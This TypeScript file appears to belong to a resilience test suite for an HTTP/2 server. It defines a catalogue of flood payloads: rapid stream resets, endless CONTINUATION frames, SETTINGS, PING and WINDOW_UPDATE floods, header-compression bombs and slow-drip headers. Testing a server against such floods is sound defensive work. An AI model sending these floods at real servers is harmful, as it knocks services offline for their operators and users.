import {
  block,
  END_HEADERS,
  END_STREAM,
  frame,
  headers,
  PREFACE,
  reset,
  settings,
  TYPE,
  windowUpdate,
} from "../../guest/support/h2-frames.ts";
import type { Field } from "./h2-attacker.ts";

/** The fields of a request to where the flood goes. */
export type Request = (path: string, method?: string) => Field[];

export interface Flood {
  /** Ahead of the batches, the preface included. */
  readonly opening: (request: Request) => Buffer;
  /** Written one after the other, as fast as they are taken; the count bounds what one connection sends. */
  readonly batches: number;
  readonly batch: (i: number, request: Request) => Buffer;
  /** Milliseconds between two batches. */
  readonly pauseMs: number;
}

const START = Buffer.concat([Buffer.from(PREFACE), settings()]);
const many = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
/** Id of the `i`th stream in batch `batch` of `size` each. */
const id = (batch: number, size: number, i: number): number => 1 + 2 * (batch * size + i);

function flood(batches: number, batch: Flood["batch"], more: Partial<Flood> = {}): Flood {
  return { opening: () => START, batches, batch, pauseMs: 0, ...more };
}

/** The same frame, 1000 a batch, behind an open POST. */
function same(one: Buffer): Flood {
  const thousand = many(1000, () => one);
  return flood(100, () => thousand, { opening: (request) => Buffer.concat([START, openPost(1, request)]) });
}

const openPost = (stream: number, request: Request): Buffer => headers(stream, request("/upload", "POST"), END_HEADERS);
const afterOpenHead = (one: Buffer): Flood => {
  const thousand = many(1000, () => one);
  return flood(20, () => thousand, {
    opening: (request) => Buffer.concat([START, headers(1, request("/range"), END_STREAM)]),
  });
};
const bomb = (request: Request): Buffer =>
  Buffer.concat([
    block(request("/range")),
    Buffer.concat([Buffer.from([0x40]), block([["x", "a".repeat(3900)]]).subarray(1)]),
    Buffer.alloc(10_000, 0x80 | 62),
  ]);

export const FLOODS = {
  "10,000 streams that are reset at once": flood(100, (batch, request) =>
    many(100, (i) =>
      Buffer.concat([headers(id(batch, 100, i), request("/slow?ms=1000")), reset(id(batch, 100, i), 8)]),
    ),
  ),
  "10,000 streams that break a rule each": flood(100, (batch, request) =>
    many(100, (i) => headers(id(batch, 100, i), [...request("/range"), ["X-Bad", "1"]])),
  ),
  "10,000 streams that the edge has to reset": flood(100, (batch, request) =>
    many(100, (i) => {
      const stream = id(batch, 100, i);
      return Buffer.concat([openPost(stream, request), headers(stream, [["x-no-end", "1"]], END_HEADERS)]);
    }),
  ),
  "1000 streams beyond the limit": flood(10, (batch, request) =>
    many(110, (i) => headers(id(batch, 110, i), request("/slow?ms=1000"))),
  ),
  "CONTINUATION without end": afterOpenHead(frame(TYPE.continuation, 0, 1, block([["a", "b"]]))),
  "empty CONTINUATION without end": afterOpenHead(frame(TYPE.continuation, 0, 1)),
  SETTINGS: same(settings(4, 65_535)),
  PING: same(frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  "empty DATA": same(frame(TYPE.data, 0, 1)),
  PRIORITY: same(frame(TYPE.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1]))),
  WINDOW_UPDATE: same(windowUpdate(1, 1)),
  "100 large answers that nobody reads": flood(
    1,
    (_batch, request) => many(100, (i) => headers(1 + 2 * i, request("/download?bytes=4000000"))),
    { opening: () => Buffer.concat([Buffer.from(PREFACE), settings(4, 0)]) },
  ),
  "100 bodies that never end": flood(1, (_batch, request) =>
    many(100, (i) => Buffer.concat([openPost(1 + 2 * i, request), frame(TYPE.data, 0, 1 + 2 * i, Buffer.from("x"))])),
  ),
  "a head that drips in": flood(
    400,
    (i, request) => headers(1, [...request("/range"), ["x", "a".repeat(400)]]).subarray(i, i + 1),
    { pauseMs: 20 },
  ),
  "1000 heads that unfold to megabytes": flood(100, (batch, request) =>
    many(10, (i) => frame(TYPE.headers, END_STREAM | END_HEADERS, id(batch, 10, i), bomb(request))),
  ),
} satisfies Record<string, Flood>;

export type FloodName = keyof typeof FLOODS;
